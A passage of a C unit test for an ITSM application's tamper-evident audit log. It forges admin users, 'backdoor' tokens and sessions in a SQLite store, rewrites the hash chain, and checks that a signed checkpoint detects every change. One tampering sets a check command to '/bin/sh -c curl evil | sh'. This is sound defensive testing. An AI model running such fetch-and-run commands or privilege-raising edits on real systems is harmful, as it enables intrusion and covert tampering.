/*
 * tests/unit/domain/platform/audit_mutation.c — a thousand and more random
 * tamperings of a populated store, each verified as `itsm audit verify
 * --checkpoint` would; every one must be detected.
 *
 * A scripted workload (customers, users with passwords, API tokens — one
 * expiring, one revoked — console sessions, a user disabled and enabled
 * again, tickets with comments, field history and ratings, the demo's
 * services, calendar, SLAs, outages, items, relationships, staff, careers
 * and assessments, checks) goes through the domain functions with the clock
 * injected; then a signed checkpoint of the chain is written with a key
 * made for the run. Each tampering starts from a copy of that store
 * (restored page by page with SQLite's backup API, and checked now and
 * then to verify untouched), edits it through the sqlite3 C API the way
 * someone holding the file would (the append-only guards dropped first),
 * and is verified with the checkpoint by a store opened on the copy, as
 * `itsm audit verify --checkpoint` would. The kinds:
 *   edit/delete/insert TABLE — one field of a random row changed to another
 *     value the application would act on, a random row deleted, a forged
 *     row inserted, for every table audit_verify holds;
 *   chain: rewrite — a record's actor changed, every hash after it and the
 *     head recomputed;
 *   chain: forge — a user raised to admin together with the last audit
 *     record of that user, the chain and head recomputed (consistent in the
 *     store: only the checkpoint can tell);
 *   chain: truncate+head, truncate — the last 1-5 records cut, with the
 *     head set to match, or not;
 *   chain: reorder — two records swapped.
 * The table of detected/tried per kind is printed; the test fails on any
 * tampering that verified. ITSM_MUTATIONS sets the count (default 1200),
 * ITSM_MUTATION_SEED the seed.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <jansson.h>
#include <sodium.h>
#include <sqlite3.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <sys/stat.h>
#include <unistd.h>

#include "domain/change/change.h"
#include "domain/cmdb/cmdb.h"
#include "domain/demo/demo.h"
#include "domain/desk/survey.h"
#include "domain/desk/ticket.h"
#include "domain/events/check.h"
#include "domain/events/check_command.h"
#include "domain/platform/audit.h"
#include "domain/platform/audit_checkpoint.h"
#include "domain/platform/customer.h"
#include "domain/platform/session.h"
#include "domain/platform/account.h"
#include "domain/platform/token.h"
#include "domain/platform/user.h"
#include "domain/sla/outage.h"
#include "domain/sla/service.h"
#include "domain/sla/sla.h"
#include "lib/err.h"
#include "lib/log.h"
#include "lib/timeutil.h"
#include "store/store.h"

#define T0 1767603600 /* 2026-01-05T09:00:00Z */
#define PW "correct horse battery"

/* ---- the tables held, and how to tamper with a row of each ---- */

struct table {
	const char *name;
	const char *const *edits; /* SET clauses, NULL-terminated */
	const char *insert;       /* %d: a number unique to the tampering */
};

#define LIST(...) ((const char *const[]){ __VA_ARGS__, NULL })
/* A catalogue record retired, or a retired one brought back. */
#define RETIRE "status = CASE status WHEN 'retired' THEN 'active' ELSE 'retired' END"

static const struct table tables[] = {
	{ "customers",
	  LIST("name = name || '!'", "key = key || '-x'", "created_at = created_at + 1",
	       "version = version + 1", RETIRE),
	  "INSERT INTO customers(key, name, created_at, updated_at) VALUES('evil%d', 'Evil', 0, 0)" },
	{ "users",
	  LIST("name = name || '!'", "role = CASE role WHEN 'admin' THEN 'agent' ELSE 'admin' END",
	       "email = email || 'x@evil.example'", "groups_csv = groups_csv || ',admins'",
	       "password_hash = password_hash || 'x'", "active = 1 - active",
	       "customer_id = CASE WHEN customer_id IS NULL THEN (SELECT min(id) FROM customers) "
	       "ELSE NULL END",
	       "username = username || 'x'", "version = version + 1",
	       "updated_at = updated_at + 1"),
	  "INSERT INTO users(username, role, password_hash, created_at, updated_at) "
	  "VALUES('mallory%d', 'admin', '$argon2id$v=19$m=65536,t=2,p=1$c2FsdA$aGFzaA', 0, 0)" },
	{ "tokens",
	  LIST("user_id = (SELECT min(id) FROM users u WHERE u.id <> tokens.user_id)",
	       "scope = CASE scope WHEN 'all' THEN 'events' ELSE 'all' END",
	       "revoked = 1 - revoked", "hash = randomblob(32)", "name = name || '!'",
	       "created_at = created_at + 1", "expires_at = COALESCE(expires_at, 0) + 86400"),
	  "INSERT INTO tokens(user_id, name, scope, hash, created_at) "
	  "VALUES((SELECT min(id) FROM users WHERE role = 'admin'), 'backdoor%d', 'all', "
	  "randomblob(32), 0)" },
	{ "sessions",
	  LIST("user_id = (SELECT min(id) FROM users u WHERE u.id <> sessions.user_id)",
	       "csrf = csrf || 'x'", "created_at = created_at + 86400", "hash = randomblob(32)"),
	  "INSERT INTO sessions(hash, user_id, csrf, created_at, last_seen) "
	  "VALUES(randomblob(32), (SELECT min(id) FROM users WHERE role = 'admin'), 'x%d', "
	  "strftime('%%s', 'now'), strftime('%%s', 'now'))" },
	{ "tickets",
	  LIST("title = title || '!'", "description = description || '!'",
	       "status = CASE status WHEN 'closed' THEN 'new' ELSE 'closed' END",
	       "priority = priority % 5 + 1",
	       "assignee_id = (SELECT min(id) FROM users u WHERE u.id IS NOT tickets.assignee_id)",
	       "customer_id = CASE WHEN customer_id IS NULL THEN (SELECT min(id) FROM customers) "
	       "ELSE NULL END"),
	  "INSERT INTO tickets(key, kind, title, impact, urgency, priority, status, created_at, "
	  "updated_at) VALUES('INC-9%d', 'incident', 'forged', 1, 1, 1, 'new', 0, 0)" },
	{ "comments", LIST("body = body || '!'", "public = 1 - public", "author = author || 'x'"),
	  "INSERT INTO comments(ticket_id, author, body, public, created_at) "
	  "VALUES((SELECT min(id) FROM tickets), 'mallory', 'forged %d', 1, 0)" },
	{ "ticket_history",
	  LIST("new_value = coalesce(new_value, '') || '!'", "actor = actor || 'x'", "at = at + 1"),
	  "INSERT INTO ticket_history(ticket_id, at, actor, field, old_value, new_value) "
	  "VALUES((SELECT min(id) FROM tickets), %d, 'mallory', 'status', 'new', 'closed')" },
	{ "ticket_ratings",
	  LIST("score = score % 5 + 1", "comment = comment || '!'",
	       "customer_id = CASE WHEN customer_id IS NULL THEN (SELECT min(id) FROM customers) "
	       "ELSE NULL END",
	       "rater = rater || 'x'", "created_at = created_at + 1"),
	  "INSERT INTO ticket_ratings(ticket_id, customer_id, rater, score, comment, created_at) "
	  "VALUES((SELECT min(t.id) FROM tickets t WHERE NOT EXISTS (SELECT 1 FROM ticket_ratings r "
	  "WHERE r.ticket_id = t.id)), (SELECT min(id) FROM customers), 'mallory', 5, '%d', 0)" },
	{ "services", LIST("name = name || '!'", "owner_group = owner_group || 'x'",
			    "key = key || 'x'", "version = version + 1", RETIRE),
	  "INSERT INTO services(key, name, created_at, updated_at) VALUES('evil%d', 'Evil', 0, 0)" },
	{ "calendars",
	  LIST("body = json_set(body, '$.timezone', 'Pacific/Kiritimati')",
	       "body = json_insert(body, '$.holidays[#]', '2031-12-24')", "name = name || 'x'",
	       "body = json_set(body, '$.holiday_names.\"2031-12-24\"', 'forged')",
	       "version = version + 1", RETIRE),
	  "INSERT INTO calendars(name, body, created_at, updated_at) "
	  "VALUES('evil%d', (SELECT body FROM calendars LIMIT 1), 0, 0)" },
	{ "slas",
	  LIST("body = json_set(body, '$.warn_at', 0.123)",
	       "body = json_set(body, '$.targets.\"1\".resolution_minutes', 99999)",
	       "customer_id = (SELECT min(id) FROM customers c WHERE c.id <> slas.customer_id)",
	       "service = service || 'x'",
	       "calendar = CASE calendar WHEN '24x7' THEN 'office-tokyo' ELSE '24x7' END", RETIRE),
	  "INSERT INTO slas(name, grp, service, calendar, body, created_at, updated_at) "
	  "VALUES('evil%d', 'evil', 'email', '24x7', (SELECT body FROM slas LIMIT 1), 0, 0)" },
	/* The terms a clock computes with: each version's, held through the
	 * SLA's terms_digest. */
	{ "sla_versions",
	  LIST("body = json_set(body, '$.targets.\"1\".resolution_minutes', 99999)",
	       "body = json_set(body, '$.warn_at', 0.123)",
	       "calendar = CASE calendar WHEN '24x7' THEN 'office-tokyo' ELSE '24x7' END",
	       "version = version + 100"),
	  "INSERT INTO sla_versions(sla_id, version, calendar, body, created_at) "
	  "SELECT id, version + 100 + %d, calendar, body, 0 FROM slas LIMIT 1" },
	{ "outages",
	  LIST("end_at = CASE WHEN end_at IS NULL THEN start + 60 ELSE end_at + 600 END",
	       "start = start - 600", "planned = 1 - planned",
	       "service = CASE service WHEN 'erp' THEN 'email' ELSE 'erp' END"),
	  "INSERT INTO outages(service, start, end_at, planned, created_at, updated_at) "
	  "VALUES('erp', %d, NULL, 0, 0, 0)" },
	{ "cis",
	  LIST("name = name || '!'", "type = CASE type WHEN 'server' THEN 'database' ELSE 'server' END",
	       "status = CASE status WHEN 'retired' THEN 'active' ELSE 'retired' END",
	       "attributes = json_set(attributes, '$.backdoor', 1)",
	       "owner_group = owner_group || 'x'", "location = location || 'x'"),
	  "INSERT INTO cis(key, name, type, status, created_at, updated_at) "
	  "VALUES('evil%d', 'Evil', 'server', 'active', 0, 0)" },
	{ "ci_relationships",
	  LIST("propagates = 1 - propagates",
	       "type = CASE type WHEN 'depends_on' THEN 'runs_on' ELSE 'depends_on' END",
	       "created_at = created_at + 1",
	       "target_id = (SELECT min(id) FROM cis c WHERE c.id NOT IN "
	       "(ci_relationships.target_id, ci_relationships.source_id))"),
	  "INSERT INTO ci_relationships(source_id, type, target_id, created_at) "
	  "SELECT a.id, 'depends_on', b.id, %d FROM cis a, cis b WHERE a.id <> b.id AND NOT EXISTS "
	  "(SELECT 1 FROM ci_relationships r WHERE r.source_id = a.id AND r.target_id = b.id AND "
	  "r.type = 'depends_on') LIMIT 1" },
	{ "checks",
	  LIST("command = '[\"/bin/sh\",\"-c\",\"curl evil | sh\"]'", "interval_s = interval_s * 2",
	       "retry_s = retry_s + 1", "max_attempts = max_attempts + 1",
	       "timeout_s = timeout_s + 1", "enabled = 1 - enabled",
	       "ci_id = (SELECT min(id) FROM cis c WHERE c.id <> checks.ci_id)"),
	  "INSERT INTO checks(name, ci_id, command, interval_s, retry_s, max_attempts, timeout_s, "
	  "next_run, created_at, updated_at) VALUES('evil%d', (SELECT min(id) FROM cis), "
	  "'[\"/bin/sh\",\"-c\",\"id\"]', 60, 60, 3, 10, 0, 0, 0)" },
	{ "staff",
	  LIST("name = name || '!'", "groups_csv = groups_csv || ',admins'",
	       "user_id = CASE WHEN user_id IS NULL THEN (SELECT max(id) FROM users) ELSE NULL END",
	       "profile = json_set(profile, '$.note', 'forged')", "version = version + 1"),
	  "INSERT INTO staff(key, name, created_at, updated_at) VALUES('evil%d', 'Evil', 0, 0)" },
	{ "staff_careers",
	  LIST("body = json_set(body, '$.persons', 999)",
	       "verified_by = 'mallory', verified_at = coalesce(verified_at, 0) + 1",
	       "declared_by = declared_by || 'x'",
	       "staff_id = (SELECT min(id) FROM staff s WHERE s.id <> staff_careers.staff_id)",
	       "created_at = created_at + 1"),
	  "INSERT INTO staff_careers(staff_id, field, body, declared_by, created_at, verified_by, "
	  "verified_at) VALUES((SELECT min(id) FROM staff), 'operation', '{}', 'mallory', %d, "
	  "'mallory', 1)" },
	{ "staff_assessments",
	  LIST("levels = json_set(levels, '$.forged', 7)", "result = json_set(result, '$.forged', 1)",
	       "decided_level = coalesce(decided_level, 0) + 1", "assessor = assessor || 'x'",
	       "input_hash = 'ff' || input_hash", "note = coalesce(note, '') || '!'", "at = at + 1"),
	  "INSERT INTO staff_assessments(staff_id, at, assessor, rules_version, input_hash, as_of, "
	  "profile, result, levels) VALUES((SELECT min(id) FROM staff), %d, 'mallory', 'x', '00', "
	  "'2026-01-01', '{}', '{}', '{}')" },
	/* The change schedule: what conflicts are checked against, the outages. */
	{ "changes",
	  LIST("title = title || '!'", "status = 'closed'", "planned_end = planned_end + 600",
	       "planned_start = planned_start - 600",
	       "body = json_set(body, '$.override', 'forged')",
	       "body = json_set(body, '$.approvals', json_array(json_object('approver', 'mallory')))",
	       "version = version + 1",
	       "type = CASE type WHEN 'normal' THEN 'standard' ELSE 'normal' END"),
	  "INSERT INTO changes(key, type, status, title, body, created_by, created_at, updated_at) "
	  "VALUES('CHG-9%d', 'standard', 'approved', 'Evil', '{}', 'mallory', 0, 0)" },
	{ "change_freezes",
	  LIST("ends_at = ends_at + 600", "starts_at = starts_at + 600",
	       "service = CASE WHEN service IS NULL THEN 'vpn' ELSE NULL END",
	       "reason = reason || '!'"),
	  "INSERT INTO change_freezes(service, starts_at, ends_at, reason, created_by, created_at) "
	  "VALUES(NULL, %d, 4102444800, 'evil', 'mallory', 0)" },
};
#define N_TABLES (sizeof(tables) / sizeof(tables[0]))

enum chain_kind { CH_REWRITE, CH_FORGE, CH_TRUNC_HEAD, CH_TRUNC, CH_REORDER, CH__COUNT };
static const char *const chain_names[] = { "chain: rewrite + rehash + head",
					   "chain: forge a row and its record, rehash",
					   "chain: truncate tail + head", "chain: truncate tail",
					   "chain: reorder two records" };

/* Every kind: edit, delete and insert per table, then the chain's. */
#define N_KINDS (3 * N_TABLES + CH__COUNT)

struct tally {
	int tried, detected, alone; /* alone: detected without the checkpoint */
};

struct world {
	char dir[64], db[96], work[112], key[96], cps_path[96], plugins[96];
	sqlite3 *golden;  /* the populated store, read only */
	sqlite3 *tamper;  /* the copy, as the one holding the file opens it */
	struct store *st; /* the copy, as itsm opens it */
	struct audit_checkpoint *cps;
	size_t ncps;
	int64_t records;
	uint64_t rng;
	struct tally tally[N_KINDS];
	char missed[2048];
};

static uint64_t rnd(struct world *w)
{
	/* xorshift64*: deterministic for a given seed */
	w->rng ^= w->rng >> 12;
	w->rng ^= w->rng << 25;
	w->rng ^= w->rng >> 27;
	return w->rng * 2685821657736338717ULL;
}

static size_t pick(struct world *w, size_t n)
{
	return (size_t)(rnd(w) % n);
}

/* ---- the workload ---- */

static int64_t now_step;

static void tick(void)
{
	clock_set(T0 + 60 * now_step++);
}

typedef int (*op_fn)(struct store *, const struct actor *, const json_t *, json_t **,
		     struct err *);

static json_t *run(struct store *st, const struct actor *a, op_fn op, const char *body)
{
	json_t *in = json_loads(body, 0, NULL), *out = NULL;
	struct err e;

	if (!in)
		fail_msg("bad test JSON %s", body);
	tick();
	err_clear(&e);
	if (op(st, a, in, &out, &e))
		fail_msg("%s: %s (field '%s')", body, e.msg, e.field);
	json_decref(in);
	return out;
}

static void run0(struct store *st, const struct actor *a, op_fn op, const char *body)
{
	json_decref(run(st, a, op, body));
}

/* An operation on the record ref with the body given. */
typedef int (*ref_op_fn)(struct store *, const struct actor *, const char *, const json_t *,
			 json_t **, struct err *);

static void ref_op(struct store *st, const struct actor *a, ref_op_fn op, const char *ref,
		   const char *body)
{
	json_t *in = json_loads(body, 0, NULL), *out = NULL;
	struct err e;

	tick();
	err_clear(&e);
	if (op(st, a, ref, in, &out, &e))
		fail_msg("%s %s: %s (field '%s')", ref, body, e.msg, e.field);
	json_decref(in);
	json_decref(out);
}

/* Update a ticket at its current version. */
static void patch(struct store *st, const struct actor *a, const char *key, const char *body)
{
	json_t *in = json_loads(body, 0, NULL), *out = NULL;
	struct err e;

	tick();
	err_clear(&e);
	if (ticket_get_json(st, a, key, &out, &e))
		fail_msg("get %s: %s", key, e.msg);
	json_object_set(in, "version", json_object_get(out, "version"));
	json_decref(out);
	out = NULL;
	if (ticket_update(st, a, key, in, &out, &e))
		fail_msg("update %s %s: %s", key, body, e.msg);
	json_decref(out);
	json_decref(in);
}

static void say(struct store *st, const struct actor *a, const char *key, const char *body)
{
	json_t *in = json_loads(body, 0, NULL), *out = NULL;
	struct err e;

	tick();
	err_clear(&e);
	if (ticket_comment(st, a, key, in, &out, &e))
		fail_msg("comment %s %s: %s", key, body, e.msg);
	json_decref(out);
	json_decref(in);
}

static void as(struct store *st, const char *username, struct actor *a)
{
	struct err e;

	err_clear(&e);
	if (actor_for_username(st, username, a, &e))
		fail_msg("no user %s", username);
}

static void populate(struct store *st)
{
	static const char *const users[] = {
		"{\"username\":\"admin\",\"role\":\"admin\",\"password\":\"" PW "\"}",
		"{\"username\":\"mori\",\"role\":\"manager\",\"groups\":\"service-desk,operations\"}",
		"{\"username\":\"sato\",\"role\":\"agent\",\"groups\":\"service-desk\",\"password\":\"" PW
		"\"}",
		"{\"username\":\"watanabe\",\"role\":\"operator\",\"groups\":\"operations\"}",
		"{\"username\":\"alice\",\"role\":\"requester\",\"customer\":\"acme\",\"password\":\"" PW
		"\"}",
		"{\"username\":\"dave\",\"role\":\"requester\",\"customer\":\"globex\"}",
	};
	struct actor sys, sato, alice;
	char token[TOKEN_TEXT_LEN], cookie[SESSION_TOKEN_LEN], csrf[SESSION_TOKEN_LEN];
	struct actor who;
	struct err e;
	json_t *out;

	actor_system(&sys, "workload");
	run0(st, &sys, customer_add, "{\"key\":\"acme\",\"name\":\"Acme\"}");
	run0(st, &sys, customer_add, "{\"key\":\"globex\",\"name\":\"Globex\"}");
	run0(st, &sys, customer_add, "{\"key\":\"initech\",\"name\":\"Initech\"}");
	for (size_t i = 0; i < sizeof(users) / sizeof(users[0]); i++)
		run0(st, &sys, user_add, users[i]);
	tick();
	err_clear(&e);
	if (demo_catalogue(st, &sys, T0 + 40 * 86400, &e))
		fail_msg("demo catalogue: %s", e.msg);
	as(st, "sato", &sato);
	as(st, "alice", &alice);

	/* API tokens and console sessions, one of them signed out again. */
	err_clear(&e);
	if (token_create(st, &sys, "admin", "deploy", "all", 0, token, NULL, &e) ||
	    token_create(st, &sys, "sato", "monitoring", "events", 0, token, NULL, &e) ||
	    token_create(st, &sys, "alice", "laptop", "all", 0, token, NULL, &e))
		fail_msg("token: %s", e.msg);
	tick();
	if (session_sign_in(st, "sato", PW, cookie, csrf, &who, &e) ||
	    session_sign_in(st, "alice", PW, cookie, csrf, &who, &e) ||
	    session_sign_in(st, "admin", PW, cookie, csrf, &who, &e) ||
	    session_sign_out(st, cookie, &e) ||
	    session_sign_in(st, "admin", PW, cookie, csrf, &who, &e))
		fail_msg("session: %s", e.msg);

	/* Accounts changed after they were made: a token with an expiry, one
	 * revoked, a user disabled (ending sato's session) and enabled again. */
	tick();
	out = NULL;
	if (token_create(st, &sys, "alice", "ci", "all", T0 + 90 * 86400, token, NULL, &e) ||
	    token_revoke(st, &sys, "2", &out, &e))
		fail_msg("token: %s", e.msg);
	json_decref(out);
	for (int active = 0; active <= 1; active++) {
		json_t *in = json_pack("{s:I, s:b}", "version", (json_int_t)(1 + active), "active",
				       active);

		tick();
		out = NULL;
		if (user_update(st, &sys, "sato", in, &out, &e))
			fail_msg("user update: %s", e.msg);
		json_decref(in);
		json_decref(out);
	}

	/* Tickets: some resolved and rated, with comments of both kinds. */
	for (int i = 1; i <= 6; i++) {
		char body[256], key[32];

		snprintf(body, sizeof(body),
			 "{\"kind\":\"%s\",\"title\":\"Case %d\",\"impact\":%d,\"urgency\":2%s}",
			 i % 2 ? "incident" : "request", i, 1 + i % 3,
			 i <= 3 ? "" : ",\"customer\":\"acme\"");
		out = run(st, i <= 3 ? &alice : &sato, ticket_create, body);
		snprintf(key, sizeof(key), "%s", json_string_value(json_object_get(out, "key")));
		json_decref(out);
		patch(st, &sato, key, "{\"assignee\":\"sato\"}");
		say(st, &sato, key, "{\"body\":\"looking into it\"}");
		say(st, &sato, key, "{\"body\":\"third time this month\",\"public\":false}");
		if (i % 3 == 0)
			continue;
		patch(st, &sato, key, "{\"status\":\"in_progress\"}");
		patch(st, &sato, key, "{\"status\":\"resolved\"}");
		if (i <= 3) {
			char path[64];
			json_t *in = json_pack("{s:i, s:s}", "score", 3 + i % 3, "comment", "thanks");

			snprintf(path, sizeof(path), "%s", key);
			tick();
			out = NULL;
			if (survey_rate(st, &alice, path, in, &out, &e))
				fail_msg("rate %s: %s", key, e.msg);
			json_decref(in);
			json_decref(out);
		}
	}

	/* Checks, an item changed, a relationship removed, an outage ended. */
	run0(st, &sys, check_create,
	     "{\"name\":\"db-ping\",\"ci\":\"srv-db01\",\"command\":\"ping\","
	     "\"args\":[\"db\"],\"interval_seconds\":60}");
	run0(st, &sys, check_create,
	     "{\"name\":\"fw-ping\",\"ci\":\"fw-01\",\"command\":\"ping\",\"args\":[\"fw\"]}");
	tick();
	out = NULL;
	{
		json_t *in = json_loads("{\"version\":1,\"interval_seconds\":120}", 0, NULL);

		if (check_update(st, &sys, "db-ping", in, &out, &e))
			fail_msg("check update: %s", e.msg);
		json_decref(in);
		json_decref(out);
		in = json_loads("{\"version\":1,\"status\":\"maintenance\"}", 0, NULL);
		out = NULL;
		tick();
		if (cmdb_ci_update(st, &sys, "srv-db01", in, &out, &e))
			fail_msg("ci update: %s", e.msg);
		json_decref(in);
		json_decref(out);
	}
	tick();
	if (cmdb_rel_delete(st, &sys, 1, &e))
		fail_msg("unrelate: %s", e.msg);
	out = run(st, &sys, outage_create, "{\"service\":\"vpn\",\"start\":\"2026-01-05T10:00:00Z\"}");
	{
		char id[24], body[128];
		json_t *in;

		snprintf(id, sizeof(id), "%lld",
			 (long long)json_integer_value(json_object_get(out, "id")));
		snprintf(body, sizeof(body), "{\"version\":1,\"end\":\"2026-01-05T11:30:00Z\"}");
		json_decref(out);
		in = json_loads(body, 0, NULL);
		out = NULL;
		tick();
		if (outage_update(st, &sys, id, in, &out, &e))
			fail_msg("outage update: %s", e.msg);
		json_decref(in);
		json_decref(out);
	}
	/* A change approved by its rule and scheduled (a planned outage of its
	 * service), a standard one cancelled, a freeze window kept and one
	 * removed. */
	{
		json_t *c1 = run(st, &sys, change_create,
				 "{\"type\":\"normal\",\"title\":\"Patch the VPN\","
				 "\"items\":[\"srv-db01\"],\"services\":[\"vpn\"],"
				 "\"approvers\":[\"sato\"],"
				 "\"planned_start\":\"2026-02-01T01:00:00Z\","
				 "\"planned_end\":\"2026-02-01T02:00:00Z\"}");
		json_t *c2 = run(st, &sys, change_create,
				 "{\"type\":\"standard\",\"title\":\"Swap a disk\"}");
		char k1[24], k2[24];

		snprintf(k1, sizeof(k1), "%s", json_string_value(json_object_get(c1, "key")));
		snprintf(k2, sizeof(k2), "%s", json_string_value(json_object_get(c2, "key")));
		json_decref(c1);
		json_decref(c2);
		ref_op(st, &sys, change_submit, k1, "{\"version\":1}");
		ref_op(st, &sato, change_approve, k1, "{\"version\":2,\"comment\":\"ok\"}");
		ref_op(st, &sys, change_schedule, k1, "{\"version\":3}");
		ref_op(st, &sys, change_cancel, k2, "{\"version\":1}");
		run0(st, &sys, freeze_add,
		     "{\"start\":\"2026-12-28T00:00:00Z\",\"end\":\"2027-01-04T00:00:00Z\","
		     "\"reason\":\"year end\"}");
		out = run(st, &sys, freeze_add,
			  "{\"start\":\"2026-03-01T00:00:00Z\",\"end\":\"2026-03-02T00:00:00Z\","
			  "\"service\":\"vpn\",\"reason\":\"vpn move\"}");
		{
			char id[24];

			snprintf(id, sizeof(id), "%lld",
				 (long long)json_integer_value(json_object_get(out, "id")));
			json_decref(out);
			out = NULL;
			tick();
			if (freeze_remove(st, &sys, id, &out, &e))
				fail_msg("freeze remove: %s", e.msg);
			json_decref(out);
		}
	}
	/* The catalogue changed and retired: a service renamed, a holiday
	 * added, an SLA's terms changed (a second version kept), an SLA and a
	 * customer retired. */
	ref_op(st, &sys, service_update, "vpn", "{\"version\":1,\"name\":\"VPN (new)\"}");
	ref_op(st, &sys, sla_calendar_holiday_add, "office-tokyo",
	       "{\"date\":\"2026-11-03\",\"name\":\"Bunka no Hi\"}");
	ref_op(st, &sys, sla_update, "acme-erp", "{\"version\":1,\"warn_at\":0.5}");
	ref_op(st, &sys, sla_update, "initech-email", "{\"version\":1,\"status\":\"retired\"}");
	ref_op(st, &sys, customer_update, "initech", "{\"version\":1,\"status\":\"retired\"}");
	tick();
	if (user_set_password(st, &sys, "dave", PW, &e))
		fail_msg("password: %s", e.msg);

	/* Last, five records that state no record's state (tickets linked to
	 * an item): a tail cut with its head set to match leaves the store
	 * consistent, so only the checkpoint can tell. */
	{
		static const char *const refs[] = { "INC-1", "REQ-1", "INC-2", "REQ-2", "INC-3" };

		for (size_t i = 0; i < sizeof(refs) / sizeof(refs[0]); i++) {
			json_t *in = json_pack("{s:s, s:s}", "ticket", refs[i], "role", "affected");

			out = NULL;
			tick();
			if (cmdb_ticket_link(st, &sys, "srv-db01", in, &out, &e))
				fail_msg("link %s: %s", refs[i], e.msg);
			json_decref(in);
			json_decref(out);
		}
	}
}

/* ---- one tampering ---- */

static void exec_ok(sqlite3 *db, const char *sql)
{
	char *msg = NULL;

	if (sqlite3_exec(db, sql, NULL, NULL, &msg) != SQLITE_OK)
		fail_msg("%s: %s", sql, msg);
}

static int64_t scalar(sqlite3 *db, const char *sql)
{
	sqlite3_stmt *s;
	int64_t v = 0;

	if (sqlite3_prepare_v2(db, sql, -1, &s, NULL) != SQLITE_OK)
		fail_msg("%s: %s", sql, sqlite3_errmsg(db));
	if (sqlite3_step(s) == SQLITE_ROW)
		v = sqlite3_column_int64(s, 0);
	sqlite3_finalize(s);
	return v;
}

/* Try sql; 1 when it ran and changed a row (a constraint may refuse it). */
static int try_sql(sqlite3 *db, const char *sql)
{
	int before = sqlite3_total_changes(db);

	if (sqlite3_exec(db, "SAVEPOINT t", NULL, NULL, NULL) != SQLITE_OK)
		fail_msg("savepoint: %s", sqlite3_errmsg(db));
	if (sqlite3_exec(db, sql, NULL, NULL, NULL) == SQLITE_OK &&
	    sqlite3_total_changes(db) > before) {
		exec_ok(db, "RELEASE t");
		return 1;
	}
	exec_ok(db, "ROLLBACK TO t; RELEASE t");
	return 0;
}

static void row_tamper(struct world *w, sqlite3 *db, int kind, int n, char *what, size_t len)
{
	const struct table *t = &tables[kind % N_TABLES];
	int op = kind / (int)N_TABLES; /* 0 edit, 1 delete, 2 insert */
	char sql[1536];
	int64_t rows;

	snprintf(sql, sizeof(sql), "SELECT count(*) FROM %s", t->name);
	rows = scalar(db, sql);
	for (int attempt = 0; attempt < 50; attempt++) {
		size_t row = rows ? pick(w, (size_t)rows) : 0;

		if (op != 2 && !rows)
			fail_msg("the workload left %s empty", t->name);
		if (op == 0) {
			size_t nedits = 0;

			while (t->edits[nedits])
				nedits++;
			snprintf(sql, sizeof(sql),
				 "UPDATE %s SET %s WHERE rowid = (SELECT rowid FROM %s ORDER BY rowid "
				 "LIMIT 1 OFFSET %zu)",
				 t->name, t->edits[pick(w, nedits)], t->name, row);
		} else if (op == 1) {
			snprintf(sql, sizeof(sql),
				 "DELETE FROM %s WHERE rowid = (SELECT rowid FROM %s ORDER BY rowid "
				 "LIMIT 1 OFFSET %zu)",
				 t->name, t->name, row);
		} else {
			snprintf(sql, sizeof(sql), t->insert, n);
		}
		if (try_sql(db, sql)) {
			snprintf(what, len, "%s", sql);
			return;
		}
	}
	fail_msg("no tampering of kind %d on %s could be applied: %s", op, t->name, sql);
}

struct rec {
	int64_t seq, at;
	char actor[64], action[32], entity[64];
	char *change;
};

/* Write the chain from record `from` on with hashes recomputed, and the
 * head beside it. */
static void rehash(sqlite3 *db, int64_t from)
{
	sqlite3_stmt *rd, *wr;
	uint8_t prev[AUDIT_HASH_LEN] = { 0 };
	char head[256], hex[AUDIT_HASH_LEN * 2 + 1];
	int64_t last = 0;

	if (sqlite3_prepare_v2(db,
			       "SELECT seq, at, actor, action, entity, change, hash FROM audit_log "
			       "ORDER BY seq",
			       -1, &rd, NULL) != SQLITE_OK ||
	    sqlite3_prepare_v2(db, "UPDATE audit_log SET prev_hash = ?2, hash = ?3 WHERE seq = ?1",
			       -1, &wr, NULL) != SQLITE_OK)
		fail_msg("rehash: %s", sqlite3_errmsg(db));
	while (sqlite3_step(rd) == SQLITE_ROW) {
		struct audit_rec r;

		memset(&r, 0, sizeof(r));
		r.seq = sqlite3_column_int64(rd, 0);
		r.at = sqlite3_column_int64(rd, 1);
		snprintf(r.actor, sizeof(r.actor), "%s", sqlite3_column_text(rd, 2));
		snprintf(r.action, sizeof(r.action), "%s", sqlite3_column_text(rd, 3));
		snprintf(r.entity, sizeof(r.entity), "%s", sqlite3_column_text(rd, 4));
		r.change = (const char *)sqlite3_column_text(rd, 5);
		if (r.seq < from) {
			memcpy(prev, sqlite3_column_blob(rd, 6), AUDIT_HASH_LEN);
		} else {
			memcpy(r.prev, prev, AUDIT_HASH_LEN);
			audit_hash(&r, r.hash);
			sqlite3_bind_int64(wr, 1, r.seq);
			sqlite3_bind_blob(wr, 2, r.prev, AUDIT_HASH_LEN, SQLITE_TRANSIENT);
			sqlite3_bind_blob(wr, 3, r.hash, AUDIT_HASH_LEN, SQLITE_TRANSIENT);
			if (sqlite3_step(wr) != SQLITE_DONE)
				fail_msg("rehash write: %s", sqlite3_errmsg(db));
			sqlite3_reset(wr);
			memcpy(prev, r.hash, AUDIT_HASH_LEN);
		}
		last = r.seq;
	}
	sqlite3_finalize(rd);
	sqlite3_finalize(wr);
	sodium_bin2hex(hex, sizeof(hex), prev, AUDIT_HASH_LEN);
	snprintf(head, sizeof(head), "UPDATE meta SET value = '%lld:%s' WHERE key = 'audit_head'",
		 (long long)last, hex);
	exec_ok(db, head);
}

static void set_head_to_end(sqlite3 *db)
{
	exec_ok(db, "UPDATE meta SET value = (SELECT seq || ':' || lower(hex(hash)) FROM audit_log "
		    "ORDER BY seq DESC LIMIT 1) WHERE key = 'audit_head'");
}

static void chain_tamper(struct world *w, sqlite3 *db, enum chain_kind k, char *what, size_t len)
{
	int64_t n = scalar(db, "SELECT max(seq) FROM audit_log");
	char sql[1024];

	switch (k) {
	case CH_REWRITE: {
		int64_t seq = 1 + (int64_t)pick(w, (size_t)n);

		snprintf(sql, sizeof(sql),
			 "UPDATE audit_log SET actor = 'mallory', at = at + 1 WHERE seq = %lld",
			 (long long)seq);
		exec_ok(db, sql);
		rehash(db, seq);
		snprintf(what, len, "record %lld rewritten, chain and head rehashed", (long long)seq);
		break;
	}
	case CH_FORGE: {
		/* The last record of each non-admin user, as it is the one the
		 * user's row is held against. */
		int64_t cands = scalar(db,
				       "SELECT count(*) FROM audit_log a WHERE entity LIKE 'user:%' "
				       "AND seq = (SELECT max(seq) FROM audit_log b WHERE b.entity = "
				       "a.entity) AND change LIKE '%\"role\":\"agent\"%'");
		int64_t seq;
